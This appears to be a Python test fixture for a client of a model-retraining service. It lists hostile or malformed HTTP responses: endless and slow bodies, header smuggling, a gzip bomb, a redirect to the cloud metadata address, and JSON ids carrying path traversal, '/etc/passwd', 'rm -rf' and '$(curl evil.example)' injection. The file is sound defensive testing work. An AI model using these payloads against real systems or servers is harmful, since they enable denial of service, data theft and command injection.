"""Answers of a service that means harm, or that something in between has damaged: byte by byte, as they are sent."""

from __future__ import annotations

import gzip
import itertools
import json
from collections.abc import Callable, Iterable
from dataclasses import dataclass

from tests.hostile.server import HostileServer

GIVEN_JOB = "0c9b7d3e-6f1a-4a3f-9d43-2f64ef9a2d11"
GOOD = json.dumps({"retrain_job_id": GIVEN_JOB, "upload_url": "https://store.example/?X-Amz-Signature=5ec4e7"})

UNUSABLE, UNREACHABLE, USED = "UNEXPECTED_ANSWER", "SERVICE_UNAVAILABLE", "used"
"""The right outcomes: both errors are recorded, and tried again later."""

PAUSE_SECONDS = 0.01
"""Between two bytes of a slow answer: far below every read timeout."""


@dataclass(frozen=True)
class Answer:
    """An answer.

    Attributes
    ----------
    why
        What is hostile about it.
    pieces
        Gives its bytes, from the server that sends them.
    outcome
        What the client makes of it.
    """

    why: str
    pieces: Callable[[HostileServer], Iterable[bytes]]
    outcome: str = UNUSABLE


def _at_once(*pieces: bytes) -> Callable[[HostileServer], Iterable[bytes]]:
    return lambda _: pieces


def _slowly(start: bytes, bytes_: bytes) -> Callable[[HostileServer], Iterable[bytes]]:
    """Send a start, and then these bytes one by one, over and over: each comes well within the read timeout."""

    def pieces(server: HostileServer) -> Iterable[bytes]:
        yield start
        for byte in itertools.cycle(bytes_):
            server.pause(PAUSE_SECONDS)
            yield bytes([byte])

    return pieces


def _endlessly(start: bytes, piece: bytes) -> Callable[[HostileServer], Iterable[bytes]]:
    return lambda _: itertools.chain([start], itertools.repeat(piece))


def head(*headers: str, status: str = "200 OK") -> bytes:
    """Return a status line and headers."""
    return "\r\n".join([f"HTTP/1.1 {status}", *headers, "", ""]).encode("latin-1")


def with_body(body: bytes | str, *headers: str, status: str = "200 OK") -> bytes:
    """Return a whole answer."""
    data = body.encode() if isinstance(body, str) else body
    return head(f"Content-Length: {len(data)}", *headers, status=status) + data


def _json(**changes: object) -> Callable[[HostileServer], Iterable[bytes]]:
    return _at_once(with_body(json.dumps({**json.loads(GOOD), **changes})))


MIB = 1024**2
_ZEROS = bytes(64 * 1024)
_CHUNK = b"10000\r\n" + _ZEROS + b"\r\n"
_CHUNKED = head("Transfer-Encoding: chunked")

ENDLESS = {
    "endless, with a length of 5 GB": Answer(
        "it fills the memory", _endlessly(head("Content-Length: 5000000000"), _ZEROS)
    ),
    "endless, without a length": Answer("the same, over HTTP/1.0", _endlessly(b"HTTP/1.0 200 OK\r\n\r\n", _ZEROS)),
    "endless, in chunks": Answer("the same, in chunks", _endlessly(_CHUNKED, _CHUNK)),
    "endless 503": Answer(
        "urllib3 reads all of it before it tries again",
        _endlessly(head("Transfer-Encoding: chunked", status="503 Busy"), _CHUNK),
        UNREACHABLE,
    ),
    "endless redirect": Answer(
        "requests reads all of it even if it is not followed",
        _endlessly(head("Location: /elsewhere", "Transfer-Encoding: chunked", status="302 Found"), _CHUNK),
    ),
    "endless 400": Answer(
        "as long as an error", _endlessly(head("Transfer-Encoding: chunked", status="400 No"), _CHUNK)
    ),
    "endless 100 Continue": Answer(
        "http.client skips them without end", _endlessly(b"", head(status="100 Continue")), UNREACHABLE
    ),
    "slow body": Answer("slow by the byte", _slowly(head("Content-Length: 1000000"), b"x"), UNREACHABLE),
    "slow body without a length": Answer("the same, HTTP/1.0", _slowly(b"HTTP/1.0 200 OK\r\n\r\n", b"x"), UNREACHABLE),
    "slow status line": Answer("the same before the headers", _slowly(b"HTTP/1.1 200 ", b"x"), UNREACHABLE),
    "slow header": Answer("the same within a header", _slowly(b"HTTP/1.1 200 OK\r\nA: ", b"x"), UNREACHABLE),
    "slow size of a chunk": Answer("the same between two chunks", _slowly(_CHUNKED + b"1\r\n[\r\n", b"0"), UNREACHABLE),
    "slow trailer": Answer("the same after the body", _slowly(_CHUNKED + b"0\r\n", b"A: b\r\n"), UNREACHABLE),
}
"""Answers that never end: that the client comes back at all shows that it has a limit of its own."""

DAMAGED = {
    "no answer": Answer("the connection closes", _at_once(), UNREACHABLE),
    "no HTTP": Answer("another protocol", _at_once(b"\x00\x00\x12\x04\x00\x00\x00\x00\x00" * 20), UNREACHABLE),
    "HTTP/0.9": Answer("no headers", _at_once(GOOD.encode()), UNREACHABLE),
    "1,000 headers": Answer(
        "a header list without end", _at_once(head(*(f"A{n}: b" for n in range(1000)))), UNREACHABLE
    ),
    "header of 70 KB": Answer("a line without end", _at_once(head("A: " + "x" * 70_000)), UNREACHABLE),
    "header with a line break": Answer(
        "a second Content-Length hides behind it",
        _at_once(head(f"A: b\r\n Content-Length: 5\r\nContent-Length: {len(GOOD)}") + GOOD.encode()),
        USED,
    ),
    "header without a colon": Answer(
        "what comes after it is body for some", _at_once(head("no colon") + GOOD.encode()), USED
    ),
    "two lengths": Answer(
        "which one counts?", _at_once(head("Content-Length: 5", "Content-Length: 6") + b"{}"), UNREACHABLE
    ),
    "negative length": Answer("-1", _at_once(head("Content-Length: -1") + GOOD.encode()), USED),
    "length that is no number": Answer("many", _at_once(head("Content-Length: many") + GOOD.encode()), USED),
    "length of 5,000 digits": Answer("too long a number", _at_once(head("Content-Length: " + "9" * 5000))),
    "broken chunk": Answer("its size is no number", _at_once(_CHUNKED + b"zz\r\n{}\r\n0\r\n\r\n"), UNREACHABLE),
    "chunk of a negative size": Answer("-5", _at_once(_CHUNKED + b"-5\r\n{}\r\n0\r\n\r\n"), UNREACHABLE),
    "chunk that is cut": Answer("the rest is missing", _at_once(_CHUNKED + b"ff\r\n{}"), UNREACHABLE),
    "gzip bomb": Answer(
        "1 MB becomes 1 GB", _at_once(with_body(gzip.compress(bytes(64 * MIB), 9), "Content-Encoding: gzip"))
    ),
    "gzip that is none": Answer("a false label", _at_once(with_body(GOOD, "Content-Encoding: gzip")), USED),
    "unknown encoding": Answer("nobody knows it", _at_once(with_body(GOOD, "Content-Encoding: evil")), USED),
    "unknown character set": Answer(
        "Python has no such codec", _at_once(with_body(GOOD, "Content-Type: application/json; charset=evil")), USED
    ),
    "status 999": Answer("beyond all classes", _at_once(with_body(GOOD, status="999 Huh")), UNREACHABLE),
    "status 99": Answer("no three digits", _at_once(with_body(GOOD, status="99 Huh")), UNREACHABLE),
    "204": Answer("success without a body", _at_once(head(status="204 No Content"))),
    "HTML": Answer("a login page", _at_once(with_body("<html>Log in</html>", "Content-Type: text/html"))),
    "cookies": Answer(
        "1 MB of them would be sent back",
        _at_once(with_body(GOOD, *(f"Set-Cookie: c{n}={'x' * 4000}; Path=/" for n in range(90)))),
        USED,
    ),
    "redirect to the metadata service": Answer(
        "the key would go there",
        _at_once(head("Location: http://169.254.169.254/latest/meta-data/", status="302 Found")),
    ),
    "redirect to a URL that is none": Answer("http://[", _at_once(head("Location: http://[", status="307 There"))),
}

JSON_BODIES = {
    "depth 100,000": Answer("the parser's stack", _at_once(with_body("[" * 100_000))),
    "depth 900": Answer(
        "deep, and just readable", _at_once(with_body('{"retrain_job_id": ' + "[" * 900 + "]" * 900 + "}"))
    ),
    "NaN": Answer(
        "no JSON, but Python reads it", _at_once(with_body('{"retrain_job_id": NaN, "upload_url": Infinity}'))
    ),
    "5,000 digits": Answer(
        "Python refuses to convert it", _at_once(with_body('{"retrain_job_id": ' + "9" * 5000 + "}"))
    ),
    "1e999999": Answer("infinity", _at_once(with_body('{"retrain_job_id": 1e999999, "upload_url": -1e999999}'))),
    "names twice": Answer("which one counts?", _at_once(with_body(GOOD[:-1] + ', "retrain_job_id": "../../other"}'))),
    "UTF-16": Answer("another encoding", _at_once(with_body(GOOD.encode("utf-16"))), USED),
    "no UTF-8": Answer("bytes that are no text", _at_once(with_body(b'{"retrain_job_id": "\xff\xfe"}'))),
    "half a surrogate": Answer("no table takes it", _json(retrain_job_id="\ud800")),
    "null": Answer("nothing", _at_once(with_body("null"))),
    "list as id": Answer("another type", _json(retrain_job_id=["a"])),
    "map as URL": Answer("another type", _json(upload_url={"a": 1})),
    "path as id": Answer("it leads out of the job's folder in the results bucket", _json(retrain_job_id="../../other")),
    "absolute path as id": Answer("the same", _json(retrain_job_id="/etc/passwd")),
    "dots as id": Answer("the folder above", _json(retrain_job_id="..")),
    "line break as id": Answer("a second line in an e-mail", _json(retrain_job_id="a\r\nrm -rf")),
    "command as id": Answer("people copy it into a shell", _json(retrain_job_id="$(curl evil.example)")),
    "URL as id": Answer("a secret in the table", _json(retrain_job_id="https://store/?X-Amz-Signature=5ec4e7")),
    "1 MB as id": Answer("no table takes it", _json(retrain_job_id="x" * MIB)),
    "257 characters as id": Answer("no index takes much more", _json(retrain_job_id="x" * 257)),
    "the key as id": Answer("the key in the table", lambda server: [with_body(_echo(server))]),
}
"""Bodies: what JSON and its fields may hold."""


def _echo(server: HostileServer) -> str:
    """Return an answer whose job has the caller's key as its id."""
    (key,) = [
        line.split(b": ")[1] for line in server.requests[-1].split(b"\r\n") if line.lower().startswith(b"x-api-key")
    ]
    return json.dumps({**json.loads(GOOD), "retrain_job_id": key.decode()})
